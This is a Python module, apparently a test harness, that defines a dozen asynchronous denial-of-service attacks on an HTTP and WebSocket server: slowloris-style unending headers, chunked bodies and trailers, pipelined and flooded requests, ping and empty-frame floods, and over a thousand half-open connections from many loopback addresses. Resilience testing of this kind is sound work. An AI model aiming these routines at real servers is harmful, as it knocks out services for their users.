"""Attacks at the door: connections that never come to the point, by the thousand, or by the megabyte.

An attack is an asynchronous function of a `Target`; it goes on until its process is killed.
"""

from __future__ import annotations

import asyncio
import resource
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final, Protocol
from urllib.parse import urlsplit

MANY: Final = 1_003
"""Half-open connections: once they were enough to make a server deaf."""

OPEN_FILES: Final = 4_096
ADDRESSES: Final = 200
"""From how many addresses many connections come; a machine has all of 127.0.0.0/8."""

GET: Final = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
POST: Final = b"POST /api/tables HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
UPGRADE: Final = (
    "GET /api/tables/{table}/socket HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
HELLO: Final = b'\x81\x91\x00\x00\x00\x00{"type": "hello"}'
PING: Final = b"\x89\x80\x00\x00\x00\x00"
NONSENSE: Final = b"\x81\x80\x00\x00\x00\x00"


class Target(Protocol):
    """A server, and a table there."""

    url: str
    table: str


async def endless_header(target: Target) -> None:
    """One connection with a header that does not end."""
    await again_and_again(target, GET + b"X: ", b"x" * 65_536)


async def endless_body(target: Target) -> None:
    """One connection with a body that does not end."""
    await again_and_again(target, POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10_000)


async def endless_trailer(target: Target) -> None:
    """One connection with a body whose trailer does not end."""
    await again_and_again(target, POST + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX: ", b"x" * 65_536)


async def pipeline(target: Target) -> None:
    """One connection with thousands of requests at once."""
    await again_and_again(target, b"", (GET + b"\r\n") * 5_000)


async def requests(target: Target) -> None:
    """200 connections that ask, whatever they are told."""
    await flood(target, GET + b"\r\n")


async def lost(target: Target) -> None:
    """200 connections that ask for what is not there."""
    await flood(target, b"GET /nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n")


async def pings(target: Target) -> None:
    """One socket with nothing but pings."""
    await on_socket(target, PING * 10_000)


async def nonsense(target: Target) -> None:
    """One socket with nothing but empty messages."""
    await on_socket(target, NONSENSE * 10_000)


async def half_open(target: Target) -> None:
    """1,003 connections that say half a word."""
    await crowd(target, GET + b"X: ")


async def half_bodies(target: Target) -> None:
    """1,003 connections that announce a body."""
    await crowd(target, POST + b"Content-Length: 1000\r\n\r\n{")


async def half_open_from_everywhere(target: Target) -> None:
    """1,003 connections from 200 addresses that say half a word."""
    await crowd(target, GET + b"X: ", ADDRESSES)


async def silent_sockets(target: Target) -> None:
    """1,003 sockets that do not say hello."""
    await crowd(target, UPGRADE.format(table=target.table).encode())


async def again_and_again(target: Target, first: bytes, then: bytes) -> None:
    """Sends something without an end; and once more, whenever the server has hung up."""
    while True:
        reader, writer = await connected(target)
        listening = asyncio.create_task(reader.read())
        with suppress(OSError):
            writer.write(first)
            while not writer.is_closing() and not listening.done():
                writer.write(then)
                await writer.drain()
        listening.cancel()
        writer.close()
        await asyncio.sleep(0)


async def flood(target: Target, request: bytes) -> None:
    """Asks as fast as answers come, on many connections from one address."""

    async def ask() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await connected(target)
                writer.write(request)
                while await reader.read(65_536):
                    writer.write(request)
                writer.close()
            await asyncio.sleep(0.05)

    await asyncio.gather(*(ask() for _ in range(ADDRESSES)))


async def on_socket(target: Target, frames: bytes) -> None:
    """Sends frames without an end on one socket; and once more, whenever the server has hung up."""
    while True:
        reader, writer = await connected(target)
        with suppress(OSError, asyncio.IncompleteReadError):
            writer.write(UPGRADE.format(table=target.table).encode())
            await reader.readuntil(b"\r\n\r\n")
            writer.write(HELLO)
            listening = asyncio.create_task(reader.read())
            while not listening.done():
                writer.write(frames)
                await writer.drain()
        writer.close()
        await asyncio.sleep(0.1)


async def crowd(target: Target, said: bytes, addresses: int = 1) -> None:
    """Holds many lines that have said something; whoever is hung up on comes again."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (OPEN_FILES, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    async with asyncio.TaskGroup() as group:
        for number in range(MANY):
            group.create_task(hold(target, said, f"127.0.3.{number % addresses + 1}"))


async def hold(target: Target, said: bytes, source: str) -> None:
    """One line of a crowd."""
    while True:
        with suppress(OSError):
            reader, writer = await connected(target, source)
            writer.write(said)
            await reader.read()
            writer.close()
        await asyncio.sleep(1.0)


async def connected(target: Target, source: str = "127.0.0.2") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A bare connection."""
    place = urlsplit(target.url)
    return await asyncio.open_connection(place.hostname, place.port, local_addr=(source, 0))


ATTACKS: Final[tuple[Callable[[Target], Awaitable[None]], ...]] = (
    endless_header,
    endless_body,
    endless_trailer,
    pipeline,
    requests,
    lost,
    pings,
    nonsense,
    half_open,
    half_bodies,
    half_open_from_everywhere,
    silent_sockets,
)
